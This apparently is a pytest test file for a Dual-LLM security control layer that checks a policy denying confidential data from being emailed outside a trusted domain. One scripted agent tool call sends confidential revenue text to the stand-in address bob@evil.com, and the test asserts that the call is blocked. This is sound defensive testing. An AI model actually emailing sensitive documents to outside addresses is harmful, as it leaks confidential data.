"""A Dual-LLM conversation end to end against the emulator, through both clients."""

from __future__ import annotations

import pytest

from sequrity.control import (
    FeaturesHeader,
    FineGrainedConfigHeader,
    SecurityPolicyHeader,
    session_id_from_tool_call_id,
)

pytestmark = pytest.mark.anyio

MODEL = "openai/gpt-5-mini"
DOC = "Q3 revenue: 12.4M (confidential)"
POLICY = (
    'let sensitive_docs = {"internal_use", "confidential"};\n'
    'tool "get_internal_document" -> @tags |= sensitive_docs;\n'
    'tool "send_email" {\n'
    "    hard deny when (body.tags overlaps sensitive_docs) and "
    '(not to.value in {str matching r".*@trustedcorp\\.com"});\n'
    "}\n"
)
TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "get_internal_document",
            "parameters": {"type": "object", "properties": {"doc_id": {"type": "string"}}},
        },
    },
    {
        "type": "function",
        "function": {
            "name": "send_email",
            "parameters": {
                "type": "object",
                "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
            },
        },
    },
]
SECURITY = {
    "features": FeaturesHeader.dual_llm(),
    "security_policy": SecurityPolicyHeader.dual_llm(codes=POLICY),
    "fine_grained_config": FineGrainedConfigHeader.dual_llm(max_n_turns=5),
}


def functions(sent: list[dict[str, str]]) -> dict[str, object]:
    def get_internal_document(doc_id: str) -> str:
        return DOC

    def send_email(to: str, body: str) -> str:
        sent.append({"to": to, "body": body})
        return f"sent to {to}"

    return {"get_internal_document": get_internal_document, "send_email": send_email}


async def test_two_tool_calls_a_denial_then_a_second_turn_in_the_same_session(api, emulator):
    """Turn 1 reads a document and is denied emailing it outside; turn 2 emails it inside."""
    sent: list[dict[str, str]] = []
    emulator.script.tool_calls([{"name": "get_internal_document", "arguments": {"doc_id": "q3"}}])
    emulator.script.tool_calls(
        [{"name": "send_email", "arguments": {"to": "bob@evil.com", "body": DOC}}]
    )
    emulator.script.tool_calls(
        [{"name": "send_email", "arguments": {"to": "alice@trustedcorp.com", "body": DOC}}]
    )

    first = await api.call(
        "control.chat.run_tools",
        [{"role": "user", "content": "Email the Q3 report to bob@evil.com"}],
        MODEL,
        tools=TOOLS,
        functions=functions(sent),
        **SECURITY,
    )
    second = await api.call(
        "control.chat.run_tools",
        [*first.messages, {"role": "user", "content": "Then send it to alice@trustedcorp.com"}],
        MODEL,
        tools=TOOLS,
        functions=functions(sent),
        session_id=first.session_id,
        **SECURITY,
    )

    assert first.finished
    assert [c.name for c in first.tool_calls] == ["get_internal_document"]
    assert first.result.status == "failure"
    assert first.result.is_denied
    assert "'send_email' is denied" in first.result.error.message
    assert first.tool_calls[0].id.startswith("tc-")
    assert session_id_from_tool_call_id(first.tool_calls[0].id) == first.session_id
    assert second.result.status == "success"
    assert [c.name for c in second.tool_calls] == ["send_email"]
    assert sent == [{"to": "alice@trustedcorp.com", "body": DOC}]
    assert second.session_id == first.session_id
    assert {r.headers.get("X-Session-ID") for r in emulator.requests[1:]} == {first.session_id}


async def test_final_answer_is_a_json_envelope_with_metadata(api, emulator):
    """Without tools, the Dual-LLM answer is a success envelope whose value is typed."""
    response = await api.call(
        "control.chat.create",
        [{"role": "user", "content": "What is the largest prime number below 100?"}],
        MODEL,
        features=FeaturesHeader.dual_llm(),
    )

    assert response.model == f"{MODEL},{MODEL}"
    assert response.id == response.session_id
    from sequrity.control import parse_result

    result = parse_result(response.content)
    assert result.status == "success"
    assert result.value == 97
    assert result.final_return_value.meta.consumers == frozenset({"*"})


async def test_failing_and_unknown_tools_become_tool_results(api, emulator):
    """A tool that raises, and a tool with no local function, are reported back as results."""
    emulator.script.tool_calls(
        [
            {"name": "get_internal_document", "arguments": {"doc_id": "q3"}},
            {"name": "send_email", "arguments": {"to": "a@trustedcorp.com", "body": "hi"}},
        ]
    )

    def broken(doc_id: str) -> str:
        raise RuntimeError("disk on fire")

    result = await api.call(
        "control.chat.run_tools",
        [{"role": "user", "content": "go"}],
        MODEL,
        tools=TOOLS,
        functions={"get_internal_document": broken},
        features=FeaturesHeader.dual_llm(),
    )

    outputs = {c.name: c.output for c in result.tool_calls}
    assert outputs["get_internal_document"] == "Error: RuntimeError: disk on fire"
    assert outputs["send_email"].startswith("Error: LookupError: no local function")
    tool_messages = [m for m in result.messages if m.get("role") == "tool"]
    assert [m["tool_call_id"] for m in tool_messages] == [c.id for c in result.tool_calls]


async def test_step_limit_stops_the_loop_unfinished(api, emulator):
    """With max_steps=1 and a pending tool call, the loop stops and says it did not finish."""
    emulator.script.tool_calls([{"name": "get_internal_document", "arguments": {"doc_id": "q3"}}])

    result = await api.call(
        "control.chat.run_tools",
        [{"role": "user", "content": "go"}],
        MODEL,
        tools=TOOLS,
        functions={"get_internal_document": lambda doc_id: DOC},
        max_steps=1,
        features=FeaturesHeader.dual_llm(),
    )

    assert not result.finished
    assert result.steps == 1
    assert result.messages[-1] == {
        "role": "tool",
        "tool_call_id": result.tool_calls[0].id,
        "content": DOC,
    }
